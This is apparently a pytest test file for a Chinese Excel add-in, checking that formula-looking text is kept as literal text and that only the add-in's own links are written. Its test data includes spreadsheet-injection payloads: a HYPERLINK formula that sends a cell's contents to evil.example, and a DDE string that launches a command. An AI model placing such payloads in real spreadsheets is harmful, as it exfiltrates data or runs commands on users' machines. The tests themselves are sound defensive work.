"""What buttons write as a text stays one, whatever it looks like, in every host."""

from datetime import time
from decimal import Decimal
from pathlib import Path

import pytest
import xlwings as xw

from jixiao.excel.buttons import press
from jixiao.excel.typing_in import typed
from jixiao.review_sheet.links import link_to, target_of
from jixiao.sheets.address import Reference
from jixiao.sheets.patching.content import Formula
from jixiao.sheets.value import CellError
from support.live import pressed_in

TEXTS = (
    '=HYPERLINK("http://evil.example/?"&首页!C5,"看说明")',
    '=HYPERLINK("#首页!A1","首页")',
    "=cmd|'/c calc'!A1",
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "'=1+1",
    "90%",
    "2022-12-31",
)
OURS = '=HYPERLINK("#预决算!E12","预决算!E12")'
OTHERS = (
    '=HYPERLINK("http://evil.example/","预决算!E12")',
    '=HYPERLINK("#[别的.xlsx]预决算!E12","预决算!E12")',
    '=HYPERLINK("#没有这张表!E12","预决算!E12")',
    '=HYPERLINK("#预决算!E12",首页!C5)',
    '=CONCATENATE("预决算","!E12")',
)


@pytest.fixture(params=["over_files", "over_libreoffice"])
def book(request: pytest.FixtureRequest, path: Path) -> xw.Book:
    request.getfixturevalue(request.param)
    return pressed_in(path)


def rows_with(book: xw.Book, column: str, wanted: set[str]) -> dict[str, int]:
    """Text of a column of 校验结果 → row."""
    sheet = book.sheets["校验结果"]
    values = sheet[f"{column}1:{column}120"].value
    return {value: row for row, value in enumerate(values, 1) if value in wanted}


def test_texts_that_look_like_formulas_stay_texts_through_a_check(book: xw.Book) -> None:
    press("check")
    sheet = book.sheets["校验结果"]
    sheet["J6"].value = [[f"'{text}"] for text in TEXTS]
    book.sheets["预决算"]["E26"].value = 827.31  # a finding goes, and rows move
    assert press("check").startswith("校验完成")
    found = rows_with(book, "J", {*TEXTS})
    assert found.keys() == {*TEXTS}
    for text, row in found.items():
        assert sheet[f"J{row}"].formula == text  # a formula would show its result as its value
        assert sheet[f"J{row}"].value == text
    assert book.impl.document.formulas(Reference("校验结果", 6, 10, 120, 10)) == {}


@pytest.mark.parametrize("book", ["over_libreoffice"], indirect=True)  # formulas have results
@pytest.mark.parametrize("command", ["check", "clear_marks"])
def test_of_formulas_in_a_row_of_staff_only_a_link_of_our_own_is_written(
    book: xw.Book, command: str
) -> None:
    press("check")
    sheet = book.sheets["校验结果"]
    lines = [(f"自己写的{number}", text) for number, text in enumerate((OURS, *OTHERS))]
    for down, (message, text) in enumerate(lines):
        row = 70 + down
        sheet[f"C{row}"].value = [[text]]
        sheet[f"F{row}"].value = message
        sheet[f"J{row}"].value = "请示过"
    press(command)
    found = rows_with(book, "F", {message for message, _ in lines})
    assert found.keys() == {message for message, _ in lines}
    formulas = {message: str(sheet[f"C{row}"].formula) for message, row in found.items()}
    assert formulas.pop("自己写的0") == OURS
    assert not [text for text in formulas.values() if text.startswith("=")]


def test_the_preview_keeps_texts_that_look_like_formulas(book: xw.Book) -> None:
    book.names["报告署名"].refers_to_range.value = "'=1+1"
    press("preview")
    rows = book.sheets["报告预览"]["A1:B200"]
    assert "=1+1" in [row[1] for row in rows.value]
    block = Reference("报告预览", 1, 1, 200, 2)
    formulas = book.impl.document.formulas(block)
    assert not [text for text in formulas.values() if "1+1" in text]


@pytest.mark.parametrize("text", TEXTS)
def test_only_what_was_built_as_a_formula_is_typed_as_one(text: str) -> None:
    assert typed(text) == f"'{text}"
    assert typed(Formula(text.removeprefix("="))) == f"={text.removeprefix('=')}"


def test_values_that_are_no_texts_are_typed_as_what_they_are() -> None:
    values = (None, True, Decimal("1.5"), time(18), CellError("#N/A"))
    assert [typed(value) for value in values] == [None, True, 1.5, 0.75, "#N/A"]


@pytest.mark.parametrize("title", ["预决算", "it's", '说"明"', "2023"])
def test_a_link_leads_where_it_was_made_to(title: str) -> None:
    link = link_to(title, "E12", 'a"b')
    assert link is not None
    assert target_of(link.text) == Reference(title, 12, 5, 12, 5)


def test_what_is_too_long_for_a_formula_is_no_link() -> None:
    assert link_to("预决算", "E12", "长" * 256) is None


@pytest.mark.parametrize("text", [each.removeprefix("=") for each in OTHERS if "没有" not in each])
def test_no_other_formula_is_a_link(text: str) -> None:
    assert target_of(text) is None
